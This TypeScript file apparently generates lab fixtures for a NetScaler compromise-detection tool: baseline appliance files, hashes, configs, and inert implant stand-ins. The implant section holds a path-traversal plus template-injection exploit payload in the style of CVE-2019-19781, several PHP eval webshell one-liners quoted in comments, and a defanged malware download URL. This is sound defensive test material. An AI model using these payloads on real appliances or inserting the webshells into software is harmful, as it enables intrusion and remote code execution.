/**
 * File contents of a lab collection: the legitimate appliance files (portal scripts with their
 * real names, GUI PHP, logon pages, ns.conf, loader.conf, crontabs, process and socket listings
 * after the 13.0-47.22 baseline of DOMAIN §4.9) and the implants of each kind (§4.1–§4.8).
 * Every file is a marked lab stand-in: vendor bytes cannot be reproduced, and implants are
 * inert (the template payload runs only `id`, the webshell one-liners sit in PHP comments,
 * binaries are text).
 */
import type { Build } from '../firmware.js';

/** Legit /netscaler/portal/scripts on 13.0-47.22 and the MD5 of the vendor file (DOMAIN §4.2#3). */
export const PORTAL_SCRIPTS: ReadonlyArray<readonly [string, string]> = [
  ['tips.pl', '3280ba3ab11a34077885f9de1beb1c92'],
  ['logout.pl', '2a2b40bfdedfc8b4ba56c280994d8d37'],
  ['navthemes.pl', '9926d0a20e179756daeb4688c8a03b37'],
  ['newbm.pl', '0591c29843bc5a48368ed06c23a3733a'],
  ['picktheme.pl', '575f21c82bd84aa458466e0c378d9abc'],
  ['rmbm.pl', '85b99d94aa01718e1ce830cd86c2d2ff'],
  ['subscription.pl', 'bb959a65984bad31acd925312d12de8f'],
  ['themes.pl', '5fcb189ac8c557ab1d956e612dae0a05'],
  ['PersonalBookmark.pl', 'd45a1c4924170e2c398831676a3b8102'],
];

/** SUID files of a clean appliance (the whitelist of DOMAIN §4.2#17). */
export const SUID_WHITELIST = [
  '/netscaler/ping',
  '/netscaler/ping6',
  '/netscaler/traceroute',
  '/netscaler/traceroute6',
  '/sbin/mksnap_ffs',
  '/sbin/poweroff',
  '/sbin/shutdown',
  '/usr/bin/crontab',
  '/usr/bin/lock',
  '/usr/bin/login',
  '/usr/bin/passwd',
  '/usr/bin/su',
  '/usr/bin/yppasswd',
  '/usr/libexec/ssh-keysign',
];

export function portalScript(name: string, md5: string): string {
  const body: Record<string, string> = {
    'subscription.pl':
      '# Renders the subscription list; the vendor file ends with eval(handle_subscriptions()).\nsub handle_subscriptions { return 1; }\neval(handle_subscriptions());\n',
    'themes.pl':
      '# Lists the portal themes the user may execute a switch to.\nmy @themes = qw(Default Greenbubble X1 RfWebUI);\nprint join("\\n", @themes), "\\n";\n',
    'newbm.pl':
      '# Stores a new personal bookmark for the logged-on user (bm_prefix_<user>.xml).\nmy %bm = (title => "", url => "");\nprint "OK\\n";\n',
  };
  return `#!/usr/bin/perl
# edgewatch lab stand-in for /netscaler/portal/scripts/${name} (Citrix Gateway portal script).
# Not the vendor file: the one shipped with 13.0-47.22 has MD5 ${md5}.
use strict;
use warnings;
print "Content-Type: text/html; charset=UTF-8\\r\\n\\r\\n";
${body[name] ?? `# ${name}: portal page helper.\nprint "<html><body></body></html>\\n";\n`}`;
}

/** Legit PHP of the management GUI (read-only, mode 0444). */
export const GUI_PHP: ReadonlyArray<readonly [string, string]> = [
  [
    '/netscaler/ns_gui/admin_ui/php/index.php',
    "<?php\n/* edgewatch lab stand-in for the Citrix ADC configuration utility front controller (not the vendor file). */\nrequire_once 'application/bootstrap.php';\n$app = new NsGuiApplication();\n$app->run();\n",
  ],
  [
    '/netscaler/ns_gui/admin_ui/php/application/bootstrap.php',
    "<?php\n/* edgewatch lab stand-in (not the vendor file). */\nclass NsGuiApplication {\n    public function run() {\n        header('Content-Type: text/html; charset=UTF-8');\n        readfile('/netscaler/ns_gui/admin_ui/php/application/views/login.html');\n    }\n}\n",
  ],
  [
    '/netscaler/ns_gui/vpn/js/ns_gateway_util.php',
    "<?php\n/* edgewatch lab stand-in (not the vendor file): serves the Gateway client settings. */\nheader('Content-Type: application/javascript');\necho 'var ns_gateway_settings = {};';\n",
  ],
];

/** Logon pages under /var/netscaler/logon (no PHP: any PHP there is suspicious, DOMAIN §4.8). */
export const LOGON_FILES: ReadonlyArray<readonly [string, string]> = [
  [
    '/var/netscaler/logon/LogonPoint/index.html',
    '<!DOCTYPE html>\n<!-- edgewatch lab stand-in for the RfWebUI logon page -->\n<html><head><title>Citrix Gateway</title><script src="init.js"></script></head><body></body></html>\n',
  ],
  [
    '/var/netscaler/logon/LogonPoint/tmindex.html',
    '<!DOCTYPE html>\n<!-- edgewatch lab stand-in -->\n<html><head><title>Citrix Gateway</title></head><body></body></html>\n',
  ],
  [
    '/var/netscaler/logon/LogonPoint/init.js',
    '/* edgewatch lab stand-in for the LogonPoint bootstrap script */\nwindow.CTXS = window.CTXS || {};\n',
  ],
  [
    '/var/netscaler/logon/LogonPoint/uiareas/uiareas.js',
    '/* edgewatch lab stand-in: UI area definitions of the logon page */\nCTXS.uiAreas = [];\n',
  ],
  [
    '/var/netscaler/logon/themes/Default/css/theme.css',
    '/* edgewatch lab stand-in: default logon theme */\nbody { font-family: sans-serif; }\n',
  ],
];

export function loaderConf(b: Build): string {
  return `autoboot_delay="3"\nboot_multicons="YES"\nboot_serial="YES"\ncomconsole_speed="9600"\nkernel="/ns-${b.version}"\n`;
}

export function nsConf(b: Build, hostname: string, vip: string, responder: boolean): string {
  const [maj, min, bld, pat] = b.parts;
  const lines = [
    `#NS${maj}.${min} Build ${bld}.${pat}`,
    '# edgewatch lab stand-in: a minimal configuration without credentials',
    'set ns config -IPAddress 10.0.0.10 -netmask 255.255.255.0',
    'enable ns feature LB SSL SSLVPN AAA REWRITE RESPONDER',
    'enable ns mode FR L3 Edge USNIP PMTUD',
    `set ns hostName ${hostname}`,
    `add vpn vserver vs_gateway SSL ${vip} 443 -Listenpolicy NONE -tcpProfileName nstcp_default_XA_XD_profile`,
    'bind vpn vserver vs_gateway -portaltheme Default',
  ];
  if (responder) {
    lines.push(
      'add responder action respondwith403 respondwith "\\"HTTP/1.1 403 Forbidden\\\\r\\\\n\\\\r\\\\n\\""',
      'add responder policy ctx267027 "HTTP.REQ.URL.DECODE_USING_TEXT_MODE.CONTAINS(\\"/vpns/\\") && (!CLIENT.SSLVPN.IS_SSLVPN || HTTP.REQ.URL.DECODE_USING_TEXT_MODE.CONTAINS(\\"/../\\"))" respondwith403',
      'bind responder global ctx267027 1 END -type REQ_OVERRIDE',
    );
  }
  return `${lines.join('\n')}\n`;
}

export const ROOT_CRONTAB =
  '# DO NOT EDIT THIS FILE - edit the master and reinstall.\n' +
  'SHELL=/bin/sh\n' +
  'PATH=/etc:/bin:/sbin:/usr/bin:/usr/sbin:/netscaler\n' +
  '*/5\t*\t*\t*\t*\t/usr/libexec/atrun\n' +
  '0\t*\t*\t*\t*\t/usr/sbin/newsyslog\n' +
  '*/10\t*\t*\t*\t*\t/netscaler/nsfsyncd -p\n' +
  '30\t3\t*\t*\t*\t/netscaler/nssysbackup.sh\n';

export function bookmark(user: string): string {
  return `<?xml version="1.0" encoding="UTF-8"?>\n<user username="${user}">\n<bookmarks>\n<bookmark UI_inuse="" descr="Intranet" title="Intranet" url="https://intranet.example.org/" />\n<bookmark UI_inuse="" descr="Timesheets" title="Timesheets" url="https://hr.example.org/timesheets" />\n</bookmarks>\n<escbk>\n</escbk>\n<filesystems></filesystems>\n<style></style>\n</user>\n`;
}

// ---------------------------------------------------------------------------------------------
// Implants (inert stand-ins)

/** Template written through newbm.pl; the payload only runs `id` (chr(105).chr(100)). */
export function templateXml(name: string): string {
  return `<?xml version="1.0" encoding="UTF-8"?>
<user username="../../../netscaler/portal/templates/${name}">
<bookmarks>
<bookmark UI_inuse="" descr="" title="[% template.new({'BLOCK'='print readpipe(chr(105) . chr(100))'}) %]" url="http://127.0.0.1" />
</bookmarks>
<escbk>
</escbk>
<filesystems></filesystems>
<style></style>
</user>
`;
}

/** What rendering the template printed (`id` as nobody). */
export const ID_OUTPUT = 'uid=65534(nobody) gid=65534(nobody) groups=65534(nobody)';

export function webshell2020(name: string): string {
  return `<?php
/* edgewatch lab stand-in for a 2020 PHP webshell (${name}); inert: the one-liner is quoted in this comment only.
   @eval($_POST['pass']);
*/
echo '';
`;
}

export function notrobinKeyShell(key: string): string {
  return `<?php
/* edgewatch lab stand-in for a NOTROBIN key-named webshell; inert: the one-liner is quoted in this comment only.
   if ($_REQUEST['k'] === '${key}') { eval($_POST['c']); }
*/
`;
}

export function webshell2023v1(name: string): string {
  return `<?php http_response_code(201); /* edgewatch lab stand-in for the 2023 v1 webshell ${name}: sets 201 first; inert, the rest is quoted: @eval($_POST['c']); */ ?>
`;
}

export function webshell2023v2(name: string): string {
  return `<?php http_response_code(404); /* edgewatch lab stand-in for the 2023 v2 webshell ${name}: empty 404 without Content-Length; inert, the rest is quoted: @eval(base64_decode($_POST['c'])); */ ?>
`;
}

export function binaryStandIn(what: string): string {
  return `edgewatch lab stand-in for ${what} (text, not a program)\n`;
}

/** NOTROBIN download path (FireEye notice.log fixture shape; the hash is a lab value). */
export function notrobinUrl(key: string): string {
  return `hxxps://95.179.163.186/wp-content/uploads/2018/09/${key.slice(0, 32)}`;
}
